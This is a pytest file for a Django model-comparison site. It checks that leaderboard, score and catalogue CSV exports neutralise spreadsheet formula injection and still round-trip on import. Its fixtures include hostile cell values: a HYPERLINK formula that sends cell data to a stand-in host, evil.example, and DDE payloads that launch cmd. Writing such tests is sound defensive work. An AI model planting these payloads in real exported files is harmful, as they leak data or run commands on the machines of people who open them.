"""No CSV the site serves carries a live spreadsheet formula, and an export still imports back.

OWASP's rule: a text cell starting with = + - @ tab or carriage return is neutralised with an
apostrophe (``benchlm.spreadsheet``); numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest

from comparisons.exporter import export_catalogue
from comparisons.importer import import_catalogue
from comparisons.models import Benchmark, LanguageModel, ModelFamily, Provider, Score
from tests.comparisons.test_importer import dump
from tests.factories import build_catalogue, empty_catalogue

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"GPT")',
    "provider": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "description": "+1+1",
    "family": "\t=1+1",
    "quoted": "'=already quoted",
}


def hostile_catalogue() -> LanguageModel:
    models = build_catalogue(4)
    model = models[0]
    provider = Provider.objects.create(slug="evil", name=HOSTILE["provider"])
    family = ModelFamily.objects.create(slug="evil", name=HOSTILE["family"], provider=provider)
    model.name, model.provider, model.family = HOSTILE["name"], provider, family
    model.save()
    score = Score.objects.filter(model=model).first()
    score.note = HOSTILE["note"]
    score.save()
    benchmark = score.benchmark
    benchmark.description = HOSTILE["description"]
    benchmark.name = HOSTILE["quoted"]
    benchmark.save()
    return model


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_live_formula(text: str, numeric: set[str]) -> None:
    rows = cells(text)
    header = rows[0]
    for row in rows[1:]:
        for column, value in zip(header, row, strict=True):
            if column in numeric and value:
                Decimal(value)  # a number stays a number, not "'…"
                continue
            assert not value.startswith(TRIGGERS), (column, value)


def test_the_leaderboard_csv_neutralises_names_and_keeps_numbers(client):
    hostile_catalogue()
    response = client.get("/?format=csv")
    assert response.status_code == 200
    text = response.content.decode()
    header = cells(text)[0]
    numeric = set(header) - {"model", "name", "provider", "lane"}
    assert_no_live_formula(text, numeric)
    names = {row[header.index("name")] for row in cells(text)[1:]}
    assert "'" + HOSTILE["name"] in names
    providers = {row[header.index("provider")] for row in cells(text)[1:]}
    assert "'" + HOSTILE["provider"] in providers


def test_the_scores_csv_neutralises_notes(client):
    hostile_catalogue()
    text = client.get("/api/v1/scores.csv").content.decode()
    assert_no_live_formula(text, {"score"})
    assert "'" + HOSTILE["note"] in text


def test_an_export_with_formulas_imports_back_to_identical_data():
    hostile_catalogue()
    exported = export_catalogue()
    assert_no_live_formula(exported["models.csv"], set())  # no numbers start with - here
    assert_no_live_formula(exported["benchmarks.csv"], set())
    assert_no_live_formula(exported["scores.csv"], {"score"})
    before = dump()

    empty_catalogue()
    report = import_catalogue(exported)

    assert report.ok, report.errors
    assert dump() == before
    assert LanguageModel.objects.get(slug="model-0").name == HOSTILE["name"]
    assert Benchmark.objects.get(name=HOSTILE["quoted"])
    assert export_catalogue() == exported
    # And a re-import of the same files changes nothing.
    again = import_catalogue(exported)
    assert again.ok and not again.created and not again.updated
